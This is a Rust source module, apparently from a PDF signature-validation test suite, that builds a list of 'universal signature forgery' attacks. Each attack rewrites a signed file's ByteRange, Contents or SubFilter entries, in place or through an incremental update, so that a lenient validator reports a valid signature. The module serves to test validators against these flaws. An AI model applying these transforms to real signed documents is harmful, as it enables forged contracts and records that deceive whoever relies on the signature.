//! Universal signature forgery: a dictionary that a lenient validator cannot check and therefore does not.

use super::super::signature::Signature;
use super::super::update::{find, find_last, updated};
use super::Attack;

/// The ByteRange in its place. What is shorter is filled up with blanks.
fn in_place(file: &[u8], text: &str) -> Vec<u8> {
    let place = Signature::last(file).byte_range;
    // Blanks follow in most files.
    let room = file[place.end..]
        .iter()
        .take_while(|it| **it == b' ')
        .count()
        + place.len();
    let mut file = file.to_vec();
    file[place.start..place.start + room].copy_from_slice(format!("{text:room$}").as_bytes());
    file
}

/// The signature's object written again, in an update. `file` stays as it was signed.
pub fn again(file: &[u8], change: impl Fn(&[u8]) -> Vec<u8>) -> Vec<u8> {
    let Signature { number, object, .. } = Signature::last(file);
    let start = find(file, "obj", object.start).unwrap() + 3;
    let body = change(&file[start..object.end - 6]);
    updated(file, |section| {
        section.set(number, body);
    })
}

/// Text in the place of what stands from `from` to before `to`.
pub fn replaced(body: &[u8], from: &str, to: &str, text: &str) -> Vec<u8> {
    let start = find(body, from, 0).unwrap();
    let end = find(body, to, start + from.len()).unwrap() + to.len();
    [&body[..start], text.as_bytes(), &body[end..]].concat()
}

fn range_again(file: &[u8], text: &str) -> Vec<u8> {
    again(file, |body| replaced(body, "/ByteRange", "]", text))
}

fn contents_again(file: &[u8], text: &str) -> Vec<u8> {
    again(file, |body| replaced(body, "/Contents", ">", text))
}

/// The same four numbers in another form.
fn numbers(file: &[u8], form: fn([usize; 4]) -> String) -> Vec<u8> {
    range_again(file, &form(Signature::last(file).numbers))
}

fn in_place_all() -> Vec<Attack> {
    vec![
        Attack::new("forgery: no ByteRange", |it| in_place(it, "/Nothing [0]")),
        Attack::new("forgery: ByteRange null", |it| {
            in_place(it, "/ByteRange null")
        }),
        Attack::new("forgery: ByteRange empty", |it| {
            in_place(it, "/ByteRange []")
        }),
        Attack::new("forgery: ByteRange of zeros", |it| {
            in_place(it, "/ByteRange [0 0 0 0]")
        }),
        Attack::new("forgery: ByteRange negative", |it| {
            in_place(it, "/ByteRange [0 -1 9 -9]")
        }),
        Attack::new("forgery: ByteRange huge", |it| {
            in_place(it, "/ByteRange [0 9999999999 9 9]")
        }),
        Attack::new("forgery: Contents under another key", |it| {
            let key = Signature::last(it).contents_key.start;
            let mut file = it.to_vec();
            file[key..key + 9].copy_from_slice(b"/Nothings");
            file
        }),
        Attack::new("forgery: Contents of zeros", |it| {
            let place = Signature::last(it).contents;
            let mut file = it.to_vec();
            file[place.start + 1..place.end - 1].fill(b'0');
            file
        }),
        Attack::new("forgery: Contents empty", |it| {
            let place = Signature::last(it).contents;
            let mut file = it.to_vec();
            file[place.start + 1..place.end - 1].fill(b' ');
            file
        }),
    ]
}

/// Each leaves the signed bytes as they are, so that a validator that finds the old ranges finds a good digest.
fn again_all() -> Vec<Attack> {
    vec![
        Attack::new("forgery again: the same dictionary", |it| {
            again(it, <[u8]>::to_vec)
        })
        .unsigned(),
        Attack::new("forgery again: no ByteRange", |it| range_again(it, "")),
        Attack::new("forgery again: ByteRange null", |it| {
            range_again(it, "/ByteRange null")
        }),
        Attack::new("forgery again: ByteRange beyond 64 bits", |it| {
            range_again(
                it,
                "/ByteRange [0 18446744073709551615 18446744073709551617 18446744073709551600]",
            )
        }),
        Attack::new("forgery again: ByteRange negative", |it| {
            numbers(it, |[a, b, c, d]| format!("/ByteRange [{a} {b} {c} -{d}]"))
        }),
        Attack::new("forgery again: ByteRange in the other order", |it| {
            numbers(it, |[a, b, c, d]| format!("/ByteRange [{c} {d} {a} {b}]"))
        }),
        Attack::new("forgery again: ByteRange overlapping", |it| {
            numbers(it, |[a, b, c, d]| format!("/ByteRange [{a} {c} {b} {d}]"))
        }),
        Attack::new("forgery again: ByteRange with a third range", |it| {
            numbers(it, |[a, b, c, d]| {
                format!("/ByteRange [{a} {b} {c} {d} {} 1]", c + d)
            })
        }),
        Attack::new("forgery again: ByteRange with one range", |it| {
            numbers(it, |[a, b, _, _]| format!("/ByteRange [{a} {b}]"))
        }),
        Attack::new("forgery again: ByteRange from byte 1", |it| {
            numbers(it, |[_, b, c, d]| {
                format!("/ByteRange [1 {} {c} {d}]", b - 1)
            })
        }),
        Attack::new("forgery again: ByteRange of real numbers", |it| {
            numbers(it, |[a, b, c, d]| {
                format!("/ByteRange [{a}.0 {b}.0 {c}.0 {d}.0]")
            })
        }),
        Attack::new("forgery again: ByteRange elsewhere", |it| {
            let [a, b, c, d] = Signature::last(it).numbers;
            let file = range_again(it, "/ByteRange 90 0 R");
            updated(&file, |section| {
                section.set(90, format!("[{a} {b} {c} {d}]"));
            })
        }),
        Attack::new("forgery again: no Contents", |it| contents_again(it, "")),
        Attack::new("forgery again: Contents null", |it| {
            contents_again(it, "/Contents null")
        }),
        Attack::new("forgery again: Contents elsewhere", |it| {
            let place = Signature::last(it).contents;
            let file = contents_again(it, "/Contents 90 0 R");
            updated(&file, |section| {
                section.set(90, &it[place]);
            })
        }),
        Attack::new("forgery again: a key twice", |it| {
            again(it, |body| {
                let end = find_last(body, ">>").unwrap();
                [&body[..end], b"/ByteRange [0 0 0 0] >>"].concat()
            })
        }),
        Attack::new("forgery again: no SubFilter", |it| {
            again(it, |body| replaced(body, "/SubFilter", "detached", ""))
        }),
        Attack::new("forgery again: SubFilter of RSA alone", |it| {
            again(it, |body| {
                replaced(
                    body,
                    "/SubFilter",
                    "detached",
                    "/SubFilter /adbe.x509.rsa_sha1",
                )
            })
        }),
    ]
}

pub fn all() -> Vec<Attack> {
    let mut all = in_place_all();
    all.extend(again_all());
    all
}
